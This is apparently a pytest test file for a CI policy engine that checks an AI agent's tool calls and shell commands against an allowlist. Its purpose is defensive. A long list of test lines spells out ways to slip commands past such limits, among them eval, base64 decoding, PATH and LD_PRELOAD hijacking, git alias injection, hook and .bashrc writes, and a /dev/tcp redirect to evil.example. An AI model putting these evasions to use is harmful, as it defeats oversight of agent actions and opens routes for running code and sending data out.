import json
import shlex
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardian_ci.model import Finding, Place
from guardian_ci.policy import load_policy
from guardian_ci.policy.rules import evaluate_tool, view_of
from guardian_ci.policy.rules.interface import ToolView
from guardian_ci.policy.rules.tool_allowlist import ToolAllowlist
from guardian_ci.policy.settings import Settings
from guardian_ci.policy.shell.facts import UNKNOWN, Access, Analysis, Opaque, Touch
from guardian_ci.policy.tools import describe_tool

ROOT = "/work/app"
PATTERNS = ("Bash(git diff:*)", "Bash(npm run test)", "Bash(ls:*)")


def listed(*entries: str) -> Settings:
    return load_policy(f"name: x\nallowed_tools: {json.dumps(entries)}", "p.yml").settings[0]


def asked(settings: Settings, name: str, arguments: object, **view: object) -> Finding | None:
    tool = describe_tool("c", name, json.dumps(arguments))
    return ToolAllowlist().check(settings, tool, ToolView(**{"root": ROOT, **view}))


def ran(*commands: str, **facts: object) -> Analysis:
    return Analysis(commands=tuple(tuple(shlex.split(command)) for command in commands), **facts)


@pytest.mark.parametrize(
    ("allowed", "passing", "denied"),
    [
        (
            ["read_file", "write_file", "bash"],
            [
                "Read",
                "view",
                "Write",
                "Edit",
                "apply_patch",
                "Bash",
                "run_shell_command",
                "write_stdin",
                "exec",
                "BashOutput",
            ],
            ["WebFetch", "WebSearch", "mcp__fs__read_file", "Glob", "delete_file", "Task", "web_search_20250305", ""],
        ),
        (["Read"], ["Read", "read_file", "view"], ["Write", "Bash"]),
        (["edit_file"], ["Edit"], ["Write"]),
        (["mcp__github__*"], ["mcp__github__create_issue"], ["mcp__gitlab__x", "mcp__github"]),
        (["mcp__github"], ["mcp__github__create_issue", "mcp__github"], ["mcp__github2__x", "mcp__gitlab__x"]),
        (["*"], ["anything", "Bash"], []),
        (["Bash(*)"], ["Bash", "write_stdin"], ["Read"]),
        (["web_*"], ["WebFetch", "WebSearch"], ["Bash"]),
        (["deploy"], ["deploy"], ["Deploy", "deploys"]),
        ([], [], ["Read", "deploy"]),
    ],
)
def test_a_tool_passes_by_its_own_name_the_common_one_or_a_glob(
    allowed: list[str], passing: list[str], denied: list[str]
) -> None:
    settings = listed(*allowed)
    assert [name for name in (*passing, *denied) if asked(settings, name, {}) is not None] == denied


def test_without_a_list_every_tool_passes() -> None:
    assert asked(Settings(), "anything", {}) is None


def test_the_finding_names_the_tool_what_is_allowed_and_the_line() -> None:
    finding = asked(listed("read_file", "bash"), "WebFetch", {})
    assert finding is not None
    assert finding.message == "The tool WebFetch (web_fetch) is not allowed here. Allowed tools: read_file, bash."
    assert (finding.reason, finding.subject, finding.violation) == ("tool_not_allowed", "WebFetch", True)
    assert finding.place == Place(file="p.yml", line=2)


def test_the_finding_on_a_command_says_which_one_is_not_allowed_and_which_would_be() -> None:
    settings = listed("Read", "Bash(git diff:*)", "Bash(npm run test)")
    finding = asked(settings, "Bash", {"command": "git diff && rm -r x"}, analysis=ran("git diff", "rm -r x"))
    assert finding is not None
    assert finding.message == 'Bash is not allowed "rm -r x". Allowed: Bash(git diff:*), Bash(npm run test).'


@pytest.mark.parametrize(
    ("analysis", "why"),
    [
        (ran("git diff x"), None),
        (ran("cd sub", "git diff", "echo done"), None),
        (ran("git diff", "cat x"), '"cat x"'),
        (ran("git push"), '"git push"'),
        (ran(), '"c": no command can be made out in it'),
        (
            ran("git diff", opaque=(Opaque(reason="runs a text that is not known", word="$x"),)),
            '"$x": runs a text that is not known, so no pattern can mean it',
        ),
        (
            ran("git diff", assigned=("A", "PATH")),
            '"PATH": a variable of this name can make an allowed command do something else',
        ),
        (ran("git diff", assigned=("CI",)), None),
        (
            ran("git diff", touches=(Touch(path="~/.bashrc", access=Access.WRITE, word="~/.bashrc", redirected=True),)),
            '"> ~/.bashrc": no entry allows to write this file',
        ),
        (ran("git diff", touches=(Touch(path="x", access=Access.WRITE, word="x"),)), None),
        (
            ran("git diff", touches=(Touch(path="/dev/null", access=Access.WRITE, word="/dev/null", redirected=True),)),
            None,
        ),
    ],
)
def test_a_pattern_allows_a_command_only_where_it_means_all_that_runs(analysis: Analysis, why: str | None) -> None:
    finding = asked(listed("Bash(git diff:*)"), "Bash", {"command": "c"}, analysis=analysis)
    wanted = None if why is None else f"Bash is not allowed {why}. Allowed: Bash(git diff:*)."
    assert (finding and finding.message) == wanted


def test_a_redirection_needs_an_entry_that_allows_to_write_its_file() -> None:
    touch = Touch(path="out/x", access=Access.WRITE, word="out/x", redirected=True)
    line = ran("git diff", touches=(touch,))
    for entry in ("Write", "edit_file", "Edit(./out/**)", "Write(out/x)"):
        assert asked(listed("Bash(git diff:*)", entry), "Bash", {"command": "c"}, analysis=line) is None
    assert asked(listed("Bash(git diff:*)", "Edit(./src/**)"), "Bash", {"command": "c"}, analysis=line) is not None


def test_what_the_shell_reads_itself_needs_an_entry_that_allows_to_read_it() -> None:
    for entries in (["Read"], ["Read(./src/**)"]):
        assert typed(listed("Bash(ls:*)", *entries), "ls < src/x") is None
    assert typed(listed("Bash(ls:*)", "Read(./src/**)"), "cat < x") is not None


def test_what_cannot_be_known_is_allowed_only_by_the_name_of_the_tool() -> None:
    dark = ran(f"git {UNKNOWN}", opaque=(Opaque(reason="dark", word="x"),))
    assert asked(listed("Bash(git:*)"), "Bash", {"command": "c"}, analysis=dark) is not None
    assert asked(listed("Bash(git:*)", "Bash"), "Bash", {"command": "c"}, analysis=dark) is None
    assert asked(listed("Bash(*)"), "Bash", {"command": "c"}, analysis=dark) is None


def test_who_may_run_some_commands_may_look_at_them_end_them_and_type_no_others() -> None:
    settings = listed("Bash(git diff:*)")
    assert asked(settings, "BashOutput", {"id": "1"}) is None
    assert asked(settings, "KillShell", {"id": "1"}) is None
    assert asked(settings, "write_stdin", {"chars": "git diff\n"}, analysis=ran("git diff")) is None
    assert asked(settings, "write_stdin", {"chars": "rm x\n"}, analysis=ran("rm x")) is not None


@pytest.mark.parametrize(
    ("entry", "passing", "denied"),
    [
        (
            "Read(./src/**)",
            [
                ("Read", {"file_path": f"{ROOT}/src/a.py"}),
                ("view", {"path": "src/b/c.py"}),
                ("Grep", {"pattern": "x", "path": "src"}),
                ("Glob", {"pattern": "**/*.py", "path": f"{ROOT}/src"}),
                ("Glob", {"pattern": "src/**/*.py"}),
                ("LS", {"path": f"{ROOT}/src/b"}),
            ],
            [
                ("Read", {"file_path": f"{ROOT}/a.py"}),
                ("Read", {"file_path": "/etc/src/a.py"}),
                ("Read", {"file_path": "src/../a.py"}),
                ("Grep", {"pattern": "x"}),
                ("Grep", {"pattern": "x", "path": "."}),
                ("Glob", {"pattern": "**/*.py"}),
                ("Glob", {"pattern": "../../*", "path": "src"}),
                ("LS", {"path": ROOT}),
                ("Write", {"file_path": f"{ROOT}/src/a.py", "content": ""}),
                ("mcp__fs__read_file", {"path": "src/a.py"}),
            ],
        ),
        (
            "Edit(/docs/**)",
            [
                ("Edit", {"file_path": f"{ROOT}/docs/a.md", "old_string": "", "new_string": ""}),
                ("Write", {"file_path": "docs/a.md", "content": ""}),
                ("delete_file", {"path": "docs/a.md"}),
                ("apply_patch", {"input": "*** Begin Patch\n*** Update File: docs/a.md\n*** End Patch"}),
            ],
            [
                ("Edit", {"file_path": "/docs/a.md", "old_string": "", "new_string": ""}),
                ("apply_patch", {"input": "*** Update File: docs/a.md\n*** Delete File: b.md\n"}),
                ("Read", {"file_path": "docs/a.md"}),
            ],
        ),
        ("Read(//etc/**)", [("Read", {"file_path": "/etc/hosts"})], [("Read", {"file_path": f"{ROOT}/etc/hosts"})]),
        (
            "Read(~/notes/**)",
            [("Read", {"file_path": "~/notes/a"}), ("Read", {"file_path": "/home/me/notes/a"})],
            [("Read", {"file_path": f"{ROOT}/notes/a"})],
        ),
        (
            "Read(**)",
            [("Read", {"file_path": f"{ROOT}/a/b"}), ("Grep", {"pattern": "x"}), ("LS", {"path": "."})],
            [("Read", {"file_path": "/etc/hosts"})],
        ),
        ("write_file(out/*)", [("Write", {"file_path": "out/a"})], [("delete_file", {"path": "out/a"})]),
        ("Grep(src/**)", [("Grep", {"pattern": "x", "path": "src"})], [("Read", {"file_path": "src/a"})]),
        (
            "WebFetch(domain:*.example.com)",
            [("WebFetch", {"url": "https://docs.example.com/x"})],
            [
                ("WebFetch", {"url": "https://example.com/x"}),
                ("WebFetch", {"url": "https://docs.example.com@evil.example/"}),
                ("WebFetch", {"url": "http://docs.example.com\\@evil.example/"}),
                ("WebFetch", {"prompt": "x"}),
                ("WebSearch", {"query": "x"}),
            ],
        ),
        (
            "Agent(Explore)",
            [("Task", {"subagent_type": "Explore", "prompt": "x"})],
            [("Task", {"subagent_type": "explore2"}), ("Task", {"prompt": "x"}), ("Skill", {"skill": "Explore"})],
        ),
        (
            "Skill(deploy *)",
            [("Skill", {"skill": "deploy"}), ("Skill", {"skill": "deploy", "args": "now"})],
            [("Skill", {"skill": "deployment"}), ("Task", {"subagent_type": "deploy"})],
        ),
        ("Skill(deploy)", [("Skill", {"skill": "deploy"})], [("Skill", {"skill": "deploy", "args": "now"})]),
    ],
)
def test_a_pattern_of_files_hosts_or_names_allows_calls_that_name_nothing_else(
    entry: str, passing: list[tuple[str, object]], denied: list[tuple[str, object]]
) -> None:
    settings = listed(entry)
    assert [each for each in (*passing, *denied) if asked(settings, *each) is not None] == denied


def test_a_link_that_leads_out_is_not_allowed() -> None:
    tool = replace(describe_tool("c", "Read", '{"file_path": "src/a"}'), links=(("src/a", "/etc/passwd"),))
    assert ToolAllowlist().check(listed("Read(src/**)"), tool, ToolView(root=ROOT)) is not None


def test_where_the_agents_folder_is_not_known_only_relative_paths_lie_in_it() -> None:
    settings = listed("Read(./src/**)")
    assert asked(settings, "Read", {"file_path": "src/a"}, root=None) is None
    assert asked(settings, "Read", {"file_path": "/x/src/a"}, root=None) is not None


def refused(settings: Settings, name: str, arguments: object) -> list[str]:
    """Return the tools that are refused where a call calls others."""
    tool = describe_tool("c", name, arguments if isinstance(arguments, str) else json.dumps(arguments))
    findings, _ = evaluate_tool(settings, tool, view_of(tool, root=ROOT))
    return [finding.subject for finding in findings if finding.rule == "tool_allowlist"]


def test_a_tool_behind_another_is_the_one_that_is_judged() -> None:
    hidden = {"name": "web_fetch", "arguments": {}}
    assert refused(listed("read_file", "tool_call"), "tool_call", hidden) == ["web_fetch"]
    assert refused(listed("web_fetch"), "tool_call", hidden) == []
    agent = {"name": "task", "arguments": {"subagent_type": "Explore"}}
    assert refused(listed("Task(Explore)"), "tool_call", agent) == []
    assert refused(listed("Task(Plan)"), "tool_call", agent) == ["task"]


def test_each_call_of_a_batch_is_held_against_the_list_by_its_own_name_and_words() -> None:
    def batch(*calls: tuple[str, object]) -> object:
        return {"tool_calls": [{"tool": name, "parameters": given} for name, given in calls]}

    listing, fetch, read = ("bash", {"command": "ls -l"}), ("webfetch", {"url": "x"}), ("read", {"filePath": "b/c"})
    assert refused(listed("bash", "read_file"), "batch", batch(listing, read)) == []
    assert refused(listed("bash", "batch"), "batch", batch(listing, fetch)) == ["webfetch"]
    assert refused(listed("Bash(ls:*)", "Read(./b/**)"), "batch", batch(listing, read)) == []
    assert refused(listed("Bash(git:*)", "Read(./b/**)"), "batch", batch(read, listing)) == ["bash"]
    assert refused(listed("Bash(ls:*)", "Read(./a/**)"), "batch", batch(listing, read)) == ["read"]


def test_each_call_of_a_program_is_held_against_the_list_by_its_own_name() -> None:
    program = "const r = await tools.exec_command({cmd: 'ls'}); await tools.mcp__jira__create({title: r.output})"
    assert refused(listed("bash", "mcp__jira"), "exec", program) == []
    assert refused(listed("bash"), "exec", program) == ["mcp__jira__create"]
    assert refused(listed("bash"), "exec", "const t = tools; t.mcp__jira__create({})") == ["mcp__jira__create"]
    assert refused(listed("bash"), "exec", "[tools][0].mcp__jira__create({})") == ["tools[computed]"]
    assert refused(listed("bash"), "exec", "tools[a]({cmd: 'ls'})") == ["tools[computed]"]
    assert refused(listed("bash"), "exec", "text(load('a'))") == []


def test_an_argument_that_stands_twice_is_judged_twice() -> None:
    tool = describe_tool("c", "Task", '{"subagent_type": "Explore", "subagent_type": "Other"}')
    assert ToolAllowlist().check(listed("Task(Explore)"), tool, ToolView()) is not None


def test_reading_through_an_editor_is_reading() -> None:
    assert asked(listed("read_file"), "str_replace_editor", {"command": "view", "path": "a"}) is None


def typed(settings: Settings, line: str) -> Finding | None:
    tool = describe_tool("c", "Bash", json.dumps({"command": line.replace("\\n", "\n")}))
    return ToolAllowlist().check(settings, tool, view_of(tool, root=ROOT))


ALLOWED_LINES = r"""
git diff
git diff --stat HEAD~1 -- src
git diff | ls
cd src && git diff
git diff 2>/dev/null
git diff > /dev/null 2>&1
timeout 5 git diff
timeout -k 5 5 git diff
bash -lc 'git diff'
/bin/bash -c "git diff && ls -la"
npm run test
npm run test 2>&1
ls -la; echo done
for f in a b; do ls $f; done
if [ -d src ]; then ls src; fi
X=1; ls $X
CI=1 npm run test
ls *.py
ls "$HOME"
git diff $(git diff --name-only)
git diff "$BASE"
export CI=1 && npm run test
cd "$(git diff --x)" && ls
true && git diff || exit 1
set -e; git diff
env NODE_ENV=test npm run test
time npm run test
ls | xargs ls
printf 'x\\n'; pwd
eval "git diff"
nice -n 5 git diff
echo "a > b"
echo "$X $(ls)"
[[ -f x ]] && ls x
command -v git && git diff
ls # a comment
while ls x; do break; done
npm run test 2>&1 | tail -n 20
ls | grep -v x | sort -u | head -5 | wc -l
git diff | cat -n
ls < /dev/null
"""


@pytest.mark.parametrize("line", ALLOWED_LINES.strip().splitlines())
def test_a_line_passes_where_patterns_mean_all_programs_that_it_runs(line: str) -> None:
    assert typed(listed(*PATTERNS), line) is None


OTHER_LINES = r"""
git diff; evil
git diff $(evil)
git diff | evil
git diff && (evil)
git diff `evil`
git diff <(evil)
git diff > >(evil)
PATH=. git diff
eval evil
eval "git diff; evil"
bash -c evil
bash -c 'git diff; evil'
sh <<< evil
echo evil | sh
ls | xargs evil
echo evil | xargs -I{} sh -c {}
timeout 1 evil
find . -exec evil ';'
git diff & evil
if evil; then git diff; fi
f() { evil; }; f
f() { evil; }; git diff
trap evil EXIT; git diff
alias git=evil; git diff
git() { evil; }; git diff
e""vil
$'\x65vil'
x=evil; $x
$(echo ZXZpbA== | base64 -d)
eval "$(echo ZXZpbA== | base64 -d)"
env evil
env A=b git diff evil; env evil
nohup evil
command evil
exec evil
builtin eval evil
coproc evil
time evil
! evil
{ evil; }
case x in x) evil;; esac
for i in 1; do evil; done
while evil; do git diff; done
[[ $(evil) ]]
[ "$(evil)" ]
echo $(evil)
: ${x:=$(evil)}
export X=$(evil)
X=$(evil) git diff
git diff -- "$(evil)"
sudo evil
sudo git diff
source evil.sh
. ./evil.sh
./git diff
/tmp/git diff
bash evil.sh
python3 -c 'import os; os.system("evil")'
git -c core.pager=evil diff
git -c alias.diff='!evil' diff
GIT_EXTERNAL_DIFF=evil git diff
LD_PRELOAD=./x.so ls
export PATH=.:$PATH; git diff
read PATH <<< .; git diff
printf -v PATH . ; git diff
declare -x PATH=.; git diff
for PATH in .; do git diff; done
: ${PATH:=.}; PATH+=:. ; git diff
hash -p ./evil git; git diff
enable -f ./evil.so x
ls > ~/.bashrc
echo evil > .git/hooks/pre-commit
: > x
git diff >> ../x
npm run test -- evil
npm run test2
"git diff"
"git diff" x
git "diff x"
gitdiff
git difftool -x evil
ls;evil
ls||evil
ls\nevil
(evil)
x=(evil); ${x[0]}
mapfile -t a < x; "${a[0]}"
bash -lc "ls; evil"
bash -c "$X"
eval "$X"
$X
"$X" diff
git $X
xargs git diff < x | sh
cat x
cat < x
ls $(<x)
ls | grep -f x
ls | grep -rn x
ls | sort -o x
ls | sort --compress-program=evil
ls | tail -f x
while read l; do ls "$l"; done < x
cat <<E\n$(evil)\nE
ls "`evil`"
let 'x=a[$(evil)]'
echo $((a[$(evil)]))
printf %s "$(evil)"
test -n "$(evil)"
PROMPT_COMMAND=evil ls
BASH_ENV=evil bash -c ls
ENV=evil sh -c ls
set -- evil; "$@"
set -- evil; $1
fc -s
bind -x '"a":evil'
complete -C evil ls
mapfile -C evil -c 1 a < x
strace evil
nice -n 5 evil
setsid evil
stdbuf -oL evil
ionice -c3 evil
chroot / evil
unshare evil
parallel evil
watch evil
script -c evil
su -c evil
ssh h evil
docker run x evil
npx evil
make evil
awk 'BEGIN{system("evil")}'
sed '1e evil' x
vim -c '!evil'
tar --checkpoint-action=exec=evil
ls | tee x
env -S 'git diff' evil; env -S 'evil'
timeout 5 sh -c evil
timeout -k 5 5 evil
bash -c 'ls' evil; bash -c '$0' evil
bash --rcfile evil -ic ls
bash -O expand_aliases -c 'alias ls=evil\nls'
\ls; \evil
ls;#\nevil
git diff --output=x; evil #
git diff -G'$(evil)' "$(evil)"
exec 3>x; git diff >&3
git diff | tee /dev/stderr
ls 2>x
ls &> x
ls >| x
ls <> x
exec > x; ls
echo a > $F
readonly PATH=.; ls
local PATH=.; ls
typeset PATH=.; ls
unset PATH; ls
IFS=x; ls
BASH_ALIASES[git]=evil; shopt -s expand_aliases; git diff
shopt -s expand_aliases
coproc X { evil; }
select x in a; do evil; done
ls & wait; evil
until evil; do ls; done
function ls { evil; }; ls
ls() ( evil ); ls
((x=$(evil)))
[[ -v 'a[$(evil)]' ]]
printf -v 'a[$(evil)]' x
read 'a[$(evil)]' <<< x
x='$(evil)'; echo ${x@P}
PS4='$(evil)'; set -x; ls
ls /dev/tcp/x/1 > /dev/tcp/evil.example/80
"""


@pytest.mark.parametrize("line", OTHER_LINES.strip().splitlines())
def test_a_line_that_does_something_else_as_well_does_not_pass(line: str) -> None:
    assert typed(listed(*PATTERNS), line) is not None


FRAMES = st.sampled_from(
    [
        "{}",
        "git diff; {}",
        "{} | ls",
        "ls | {}",
        "( {} )",
        "{{ {}; }}",
        "ls $( {} )",
        'ls "$( {} )"',
        "ls <( {} )",
        "if {}; then ls; fi",
        "for i in 1 2; do {}; done",
        "case $x in a) {};; esac",
        "f() {{ {}; }}; f",
        "{} &",
        "! {}",
        "cd x && {} || ls",
        "x=$( {} ) ls",
        "[[ -n $( {} ) ]]",
        'echo "${{x:-$( {} )}}"',
        'cat <<< "$( {} )"',
        "ls # comment\n{}",
        "git diff\n{}\nls",
    ]
)
EVIL = st.sampled_from(
    [
        "evil",
        "timeout 5 evil",
        "env A=b evil x",
        "x=evil; $x",
        "bash -c evil",
        "echo evil | sh",
        "eval evil",
        "ls | xargs evil",
    ]
)


@settings(deadline=None)
@given(st.lists(FRAMES, max_size=4), EVIL)
def test_a_program_that_no_pattern_names_does_not_pass_however_deep_it_stands(frames: list[str], line: str) -> None:
    for frame in frames:
        line = frame.replace("{{", "\0").replace("}}", "\1").replace("{}", line).replace("\0", "{").replace("\1", "}")
    assert typed(listed(*PATTERNS), line) is not None
